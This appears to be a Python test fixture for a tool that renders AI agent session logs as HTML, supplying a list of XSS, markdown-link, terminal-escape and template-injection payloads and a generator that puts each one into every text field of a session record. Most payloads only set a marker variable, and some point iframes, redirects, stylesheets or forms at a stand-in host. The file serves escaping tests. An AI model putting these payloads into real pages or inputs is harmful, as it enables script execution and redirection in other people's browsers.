"""What an agent can be made to print by those who want to run scripts in its reader's browser."""

from __future__ import annotations

import json
from collections.abc import Iterator

from presentview.records import (
    Attachment,
    Compaction,
    FileDiff,
    Header,
    Kind,
    Profile,
    Record,
    Tool,
    encode,
    encode_header,
)

__all__ = ["PAYLOADS", "hostile_session"]

_RUN = "window.__xss=1"
PAYLOADS = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</style></pre></textarea><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src=`x` onerror={_RUN}//",
    f'"><img src=x onerror="{_RUN}">',
    f"'><img src=x onerror='{_RUN}'>",
    f'" onmouseover="{_RUN}" x="',
    f"' autofocus onfocus='{_RUN}",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text y=20>click</text></a></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}></style>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    "<iframe src='https://evil.test/'></iframe>",
    f"<object data='javascript:{_RUN}'></object>",
    f"<embed src='data:text/html,<script>{_RUN}</script>'>",
    "<base href='https://evil.test/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
    "<link rel=stylesheet href='https://evil.test/x.css'>",
    "<style>@import 'https://evil.test/x.css'; * { display: none }</style>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    f"<video src=x onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}></audio>",
    f"<input autofocus onfocus={_RUN}>",
    "<form action='https://evil.test/'><button>send</button></form>",
    f"<a href='javascript:{_RUN}'>x</a>",
    f"<template><script>{_RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'></noscript>",
    "<div hx-get='/evil' hx-trigger='load'>x</div>",
    f"<div hx-on:load='{_RUN}' data-hx-get='/evil' hx-trigger=load>x</div>",
    "<div id=cards class='card kids'>x</div>",
    "<p style='position:fixed;inset:0'>over all</p>",
    f"<!--><script>{_RUN}</script>-->",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"<?xml <script>{_RUN}</script>?>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<\0script>{_RUN}</script>",
    f"<script\n>{_RUN}</script\n>",
    f"[a](javascript:{_RUN})",
    f"[a](JaVaScRiPt:{_RUN})",
    f"[a](java\tscript:{_RUN})",
    f"[a](\x01javascript:{_RUN})",
    f"[a](data:text/html,<script>{_RUN}</script>)",
    f"[a](vbscript:{_RUN})",
    f"[a](<javascript:{_RUN}>)",
    f"<javascript:{_RUN}>",
    "![a](https://evil.test/x.png)",
    f'![a](x "onerror={_RUN}")',
    f'[a](https://example.com/"onmouseover="{_RUN})',
    "[a]: https://evil.test/\n\n[a] //evil.test/x",
    f"```html\n</code></pre><script>{_RUN}</script>\n```",
    f'```"onload="{_RUN}\nx\n```',
    f"| a |\n|---|\n| <img src=x onerror={_RUN}> |",
    f"\x1b]8;;javascript:{_RUN}\x1b\\click\x1b]8;;\x1b\\",
    f"\x1b[31m<script>{_RUN}</script>\x1b[0m",
    f"\x1b]0;<script>{_RUN}</script>\x07",
    f"\u2028<script>{_RUN}</script>\u2029",
    f"\ufeff<script>{_RUN}</script>",
    "{{ 7919 * 7907 }}{% include 'x' %}${7919*7907}",
    "visually-hidden kids card prompt",
)


def hostile_session() -> bytes:
    """A sidecar with each payload in each field that holds text."""
    first = PAYLOADS[0]
    header = Header(workspace=f"/w/{first}", writer=first)
    lines = [encode_header(header), *(encode(record) for record in _records())]
    return b"\n".join([*lines, *(payload.encode() for payload in PAYLOADS)]) + b"\n"


def _records() -> Iterator[Record]:
    for number, evil in enumerate(PAYLOADS):
        call = f"t{number}"
        arguments = dict.fromkeys(("command", "path", "description", "prompt", "url"), evil)
        todos = {"todos": [{"content": evil, "status": evil}]}
        files = (Attachment(path=evil, kind="image"), Attachment(path=evil, kind=evil))
        yield Record(kind=Kind.TURN_STARTED, text=evil)
        yield Record(kind=Kind.MESSAGE, text=evil, reasoning=evil)
        yield Record(kind=Kind.NOTICE, text=evil, level=evil)
        yield Record(kind=Kind.PHASE, text=evil)
        yield Record(kind=Kind.STEER, text=evil)
        for name in ("bash", "task", evil):
            profile = Profile(model=evil, effort=evil)
            tool = Tool(id=f"{call}{name}", name=name, args=json.dumps(arguments), profile=profile)
            yield Record(kind=Kind.TOOL_DISPATCH, tool=tool)
            diff = FileDiff(diff=f"--- {evil}\n+++ {evil}\n@@ -1 +1 @@ {evil}\n-{evil}\n+{evil}\n")
            done = Tool(
                id=f"{call}{name}", output=evil, err=evil, file_diff=diff, attachments=files
            )
            yield Record(kind=Kind.TOOL_RESULT, tool=done)
        todo = Tool(id=f"{call}todo", name="todo_write", args=json.dumps(todos), parent_id=evil)
        yield Record(kind=Kind.TOOL_DISPATCH, tool=todo)
        compaction = Compaction(trigger=evil, messages=1, summary=evil, archive=evil)
        yield Record(kind=Kind.COMPACTION_DONE, compaction=compaction)
        said = [[{"ExpertName": evil, "Text": evil}]]
        run = {"RunID": call, "TeamName": evil, "Task": evil, "Mode": evil, "Synthesis": evil}
        yield Record(kind=Kind.EXPERT_COLLAB, collab={**run, "Rounds": said})
        yield Record(kind=evil, text=evil)
        yield Record(kind=Kind.TURN_DONE, text=evil, level=evil)
